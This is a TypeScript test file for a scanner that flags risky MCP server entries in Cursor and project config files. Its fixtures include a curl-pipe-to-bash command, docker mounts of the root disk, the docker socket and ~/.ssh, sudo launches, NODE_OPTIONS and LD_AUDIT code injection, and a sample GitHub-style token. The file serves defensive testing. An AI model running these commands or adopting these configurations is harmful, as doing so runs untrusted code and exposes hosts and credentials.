import { mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { expect, test } from 'vitest';
import { CHECKS } from '../../src/setup/checks/index.ts';
import { World } from './world.ts';

type Server = {
  readonly command?: string;
  readonly args?: readonly string[];
  readonly url?: string;
  readonly env?: object;
  readonly headers?: object;
  readonly requestInit?: object;
};

function cursor(world: World, servers: Readonly<Record<string, Server>>): void {
  mkdirSync(join(world.userHome, '.cursor'), { recursive: true });
  world.write(join(world.userHome, '.cursor/mcp.json'), JSON.stringify({ mcpServers: servers }, undefined, 2));
}

function repository(world: World, servers: Readonly<Record<string, Server>>): void {
  world.write('.mcp.json', JSON.stringify({ mcpServers: servers }));
}

const KEY = 'ghp_R7kQ2wZt9LmV4xB1nHc6Gd3PsJu8Yf5TaEo0';

type Found = { readonly check: string; readonly severity: string; readonly what: string };

async function findings(world: World, ...more: string[]): Promise<Found[]> {
  const { out } = await world.run(['scan', '--config-only', '--json', ...more]);
  return (JSON.parse(out) as { readonly findings: Found[] }[]).flatMap((server) => server.findings);
}

/** One entry each, as people write them, and what is to be said of it; undefined: nothing. */
const CASES: readonly (readonly [check: string, Server, expected: { what: string; severity: string } | undefined])[] = [
  [
    'unpinned-package',
    { command: 'npx', args: ['-y', '@acme/x'] },
    { what: '@acme/x, whatever is newest', severity: 'medium' },
  ],
  ['unpinned-package', { command: 'uvx', args: ['acme@latest'] }, { what: 'acme at "latest"', severity: 'medium' }],
  ['unpinned-package', { command: 'npx', args: ['-y', '@acme/x@1.2.3'] }, undefined],
  ['unpinned-package', { command: 'npx', args: ['/opt/acme'] }, undefined],
  [
    'unpinned-image',
    { command: 'docker', args: ['run', '-i', 'acme/x'] },
    { what: 'acme/x, whatever is newest', severity: 'medium' },
  ],
  ['unpinned-image', { command: 'docker', args: ['run', '-i', 'acme/x:1.4'] }, undefined],
  [
    'inline-secret',
    { command: 'node', args: ['x.js'], env: { GITHUB_TOKEN: KEY } },
    { what: 'GITHUB_TOKEN in env: ', severity: 'high' },
  ],
  [
    'inline-secret',
    { command: 'node', args: ['x.js'], env: { ACME_API_KEY: 'q8z3lmv0rj' } },
    { what: 'ACME_API_KEY in env', severity: 'high' },
  ],
  ['inline-secret', { command: 'node', args: ['x.js'], env: { GITHUB_TOKEN: '${env:GITHUB_TOKEN}' } }, undefined],
  ['inline-secret', { command: 'node', args: ['x.js'], env: { API_KEY: '<your key>' } }, undefined],
  [
    'inline-secret',
    { command: 'node', args: ['x.js'], env: { KEY: '/home/me/key.pem', MODE: 'production' } },
    undefined,
  ],
  [
    'inline-secret',
    { command: 'node', args: ['x.js', '--api-key', 'q8z3lmv0rj'] },
    { what: 'the value of --api-key', severity: 'high' },
  ],
  [
    'inline-secret',
    { command: 'docker', args: ['run', '-i', '-e', 'ACME_API_KEY=q8z3lmv0rj', 'acme/x:1.4'] },
    { what: 'ACME_API_KEY in argument 4', severity: 'high' },
  ],
  [
    'inline-secret',
    { command: 'docker', args: ['run', '-i', '--env=ACME_TOKEN=q8z3lmv0rj', 'acme/x:1.4'] },
    { what: 'ACME_TOKEN in argument 3', severity: 'high' },
  ],
  [
    'inline-secret',
    { command: 'docker', args: ['run', '-e', 'ACME_API_KEY', '-e', 'MODE=production', 'x:1.4'] },
    undefined,
  ],
  ['inline-secret', { command: 'env', args: ['API_KEY=$API_KEY', 'KEY=/home/me/key.pem', 'node', 'x.js'] }, undefined],
  ['inline-secret', { command: 'node', args: ['x.js', 'sort_key=created_at'] }, undefined],
  [
    'inline-secret',
    { command: 'uvx', args: ['pg-mcp==1.0.0', 'postgres://app:hunter2@db/x'] },
    { what: 'argument 2: an address with a password', severity: 'high' },
  ],
  [
    'inline-secret',
    { url: 'https://mcp.acme.com/?api_key=q8z3lmv0rj' },
    { what: 'the address holds a secret', severity: 'high' },
  ],
  [
    'inline-secret',
    { url: 'https://mcp.acme.com/', headers: { Authorization: `Bearer ${KEY}` } },
    { what: 'header Authorization: GitHub token', severity: 'high' },
  ],
  [
    'inline-secret',
    { url: 'https://mcp.acme.com/', headers: { 'X-API-Key': 'q8z3lmv0rj' } },
    { what: 'header X-API-Key', severity: 'high' },
  ],
  [
    'inline-secret',
    { url: 'https://mcp.acme.com/', requestInit: { headers: { authorization: 'Basic dXNlcjpodW50ZXIy' } } },
    { what: 'header authorization', severity: 'high' },
  ],
  [
    'inline-secret',
    {
      url: 'https://mcp.acme.com/',
      headers: {
        Authorization: 'Bearer ${env:TOKEN}',
        Cookie: '$COOKIE',
        Accept: 'application/json',
        'X-Team': 'team-blue-1',
      },
    },
    undefined,
  ],
  [
    'inline-secret',
    {
      command: 'npx',
      args: ['mcp-remote@0.1.0', 'https://x.acme.com', '--header', 'Authorization: Bearer q8z3lmv0rj'],
    },
    { what: 'header Authorization in argument 4', severity: 'high' },
  ],
  [
    'inline-secret',
    { command: 'npx', args: ['mcp-remote@0.1.0', 'https://x.acme.com', '--header', 'Authorization:${AUTH_HEADER}'] },
    undefined,
  ],
  ['sudo', { command: 'sudo', args: ['node', 'x.js'] }, { what: 'started through sudo', severity: 'high' }],
  [
    'docker-mount',
    { command: 'docker', args: ['run', '-v', '/:/host', 'a:1'] },
    { what: 'mounts the whole disk', severity: 'critical' },
  ],
  [
    'docker-mount',
    { command: 'docker', args: ['run', '--privileged', 'a:1'] },
    { what: '--privileged', severity: 'critical' },
  ],
  [
    'docker-mount',
    { command: 'docker', args: ['run', '--mount', 'type=bind,src=/var/run/docker.sock,dst=/s', 'a:1'] },
    { what: 'mounts the socket of docker', severity: 'critical' },
  ],
  ['docker-mount', { command: 'docker', args: ['run', '-v', '~/.ssh:/k', 'a:1'] }, { what: '/.ssh', severity: 'high' }],
  ['docker-mount', { command: 'docker', args: ['run', '-v', '/srv/data:/data:ro', 'a:1'] }, undefined],
  [
    'shell-line',
    { command: 'bash', args: ['-c', 'curl -s https://x.sh | bash'] },
    { what: 'fetches a script and runs it', severity: 'critical' },
  ],
  [
    'shell-line',
    { command: 'sh', args: ['-c', 'cd /x && node y.js'] },
    { what: 'sh runs several commands', severity: 'medium' },
  ],
  ['shell-line', { command: 'sh', args: ['-c', 'exec npx acme@1.0.0'] }, { what: 'through sh', severity: 'low' }],
  ['shell-line', { command: 'cmd', args: ['/c', 'npx', 'acme@1.0.0'] }, undefined],
  ['remote-url', { url: 'http://mcp.acme.com/' }, { what: 'mcp.acme.com, in the clear', severity: 'high' }],
  ['remote-url', { url: 'https://mcp.acme.com/' }, { what: 'mcp.acme.com', severity: 'info' }],
  ['remote-url', { url: 'http://localhost:3000/' }, undefined],
  [
    'broad-folder',
    { command: 'npx', args: ['fs@1.0.0', '/'] },
    { what: 'it is given the whole disk', severity: 'high' },
  ],
  [
    'broad-folder',
    { command: 'npx', args: ['fs@1.0.0', '${userHome}'] },
    { what: 'it is given the whole home folder', severity: 'medium' },
  ],
  ['broad-folder', { command: 'npx', args: ['fs@1.0.0', '/home/me/src'] }, undefined],
  [
    'injecting-variable',
    { command: 'node', args: ['x.js'], env: { NODE_OPTIONS: '--require ./x' } },
    { what: 'env sets NODE_OPTIONS', severity: 'medium' },
  ],
  [
    'injecting-variable',
    { command: 'node', args: ['x.js'], env: { NODE_OPTIONS: '--max-old-space-size=4096' } },
    undefined,
  ],
  [
    'injecting-variable',
    { command: 'node', args: ['x.js'], env: { LD_AUDIT: '/tmp/x.so' } },
    { what: 'env sets LD_AUDIT', severity: 'medium' },
  ],
];

test.each(CASES)('%s: %j', async (check, server, expected) => {
  const world = new World();
  cursor(world, { x: server });
  const found = (await findings(world)).filter((one) => one.check === check);
  if (expected === undefined) expect(found).toEqual([]);
  else expect(found[0]).toMatchObject({ severity: expected.severity, what: expect.stringContaining(expected.what) });
});

test('every check has a case that finds something', () => {
  const found = new Set(CASES.filter(([, , expected]) => expected !== undefined).map(([check]) => check));
  expect(CHECKS.map(({ id }) => id).filter((id) => !found.has(id))).toEqual(['cloned-repository']);
});

test('case 225: an entry whose env loads code into every process is named', async () => {
  const world = new World();
  cursor(world, { x: { command: 'node', args: ['x.js'], env: { NODE_OPTIONS: '--require /tmp/x.cjs' } } });
  expect(await findings(world)).toContainEqual(
    expect.objectContaining({ check: 'injecting-variable', what: 'env sets NODE_OPTIONS' }),
  );
});

test('entries that a cloned repository brings along are named, more so where it brings the server too', async () => {
  const world = new World();
  repository(world, {
    tool: { command: 'npx', args: ['acme@1.0.0'] },
    own: { command: 'node', args: ['./tools/server.js'] },
  });
  expect((await findings(world)).filter(({ check }) => check === 'cloned-repository')).toMatchObject([
    { what: 'a project file starts it', severity: 'low' },
    { what: 'a project file starts ./tools/server.js, out of the same repository', severity: 'medium' },
  ]);
});

test('a secret is named by its place and its kind, and never shown', async () => {
  const world = new World();
  cursor(world, { x: { command: 'node', args: ['x.js', '--token', KEY], env: { GITHUB_TOKEN: KEY } } });
  for (const form of [[], ['--json'], ['--sarif'], ['--verbose']]) {
    const { out, err } = await world.run(['scan', '--config-only', ...form]);
    expect(out + err).toContain('GITHUB_TOKEN');
    expect(out + err).not.toContain(KEY.slice(4));
  }
});

test('exit codes for a build: 1 from the level on, 0 below it, 2 where a config cannot be read', async () => {
  const world = new World();
  cursor(world, { x: { command: 'npx', args: ['-y', '@acme/x'] } });
  expect((await world.run(['scan', '--config-only'])).code).toBe(0);
  expect((await world.run(['scan', '--config-only', '--fail-on', 'flag'])).code).toBe(1);
  expect((await world.run(['scan', '--config-only', '--fail-on', 'medium'])).code).toBe(1);
  expect((await world.run(['scan', '--config-only', '--fail-on', 'never'])).code).toBe(0);
  world.write('.mcp.json', '{"mcpServers": {');
  const broken = await world.run(['scan', '--config-only', '--fail-on', 'never']);
  expect(broken).toMatchObject({ code: 2, err: expect.stringContaining('.mcp.json:1:') });
});

test('for people: where, how bad, what and what to do; nothing is started', async () => {
  const world = new World();
  cursor(world, { files: { command: 'npx', args: ['-y', '@mcp/server-filesystem', '/'] } });
  const { out } = await world.run(['scan', '--config-only']);
  expect(out).toBe(
    [
      'cursor/files  ~/.cursor/mcp.json:3  high risk: files',
      '  ▲ high      whole disk or home in reach: it is given the whole disk',
      '              Name the folders it is to work on.',
      '  ■ medium    package without a version: @mcp/server-filesystem, whatever is newest',
      '              Write the exact version behind the name: NAME@1.2.3 for npx, NAME==1.2.3 for uvx.',
      '',
      '1 high, 1 medium in 1 server of 1 client; nothing was started',
      '',
    ].join('\n'),
  );
});

test('the SARIF log names each rule once and each place by file and line', async () => {
  const world = new World();
  cursor(world, { a: { command: 'npx', args: ['-y', 'a'] }, b: { command: 'sudo', args: ['npx', 'b'] } });
  const { out } = await world.run(['scan', '--config-only', '--sarif']);
  const { runs } = JSON.parse(out) as { runs: { tool: { driver: { rules: { id: string }[] } }; results: object[] }[] };
  expect(runs[0]?.tool.driver.rules.map(({ id }) => id)).toEqual(['sudo', 'unpinned-package']);
  expect(runs[0]?.results).toHaveLength(3);
  expect(runs[0]?.results[0]).toMatchObject({
    ruleId: 'unpinned-package',
    ruleIndex: 1,
    level: 'warning',
    message: { text: 'cursor/a: package without a version: a, whatever is newest' },
    locations: [
      {
        physicalLocation: {
          artifactLocation: { uri: pathToFileURL(join(world.userHome, '.cursor/mcp.json')).href },
          region: { startLine: 3 },
        },
      },
    ],
  });
});

test('one client or server can be named, and a slip is told', async () => {
  const world = new World();
  cursor(world, { a: { command: 'npx', args: ['a'] }, b: { command: 'npx', args: ['b'] } });
  expect(await findings(world, 'cursor/b')).toHaveLength(1);
  expect(await world.run(['scan', '--config-only', 'curser'])).toMatchObject({ code: 1, out: '' });
  expect((await world.run(['scan', '--config-only', '--text', 'x'])).code).toBe(2);
  expect((await world.run(['scan', '--sarif', '--jsonl', '-'])).code).toBe(2);
  // Looked at, and not touched.
  expect(readFileSync(join(world.userHome, '.cursor/mcp.json'), 'utf8')).toContain('"a"');
});
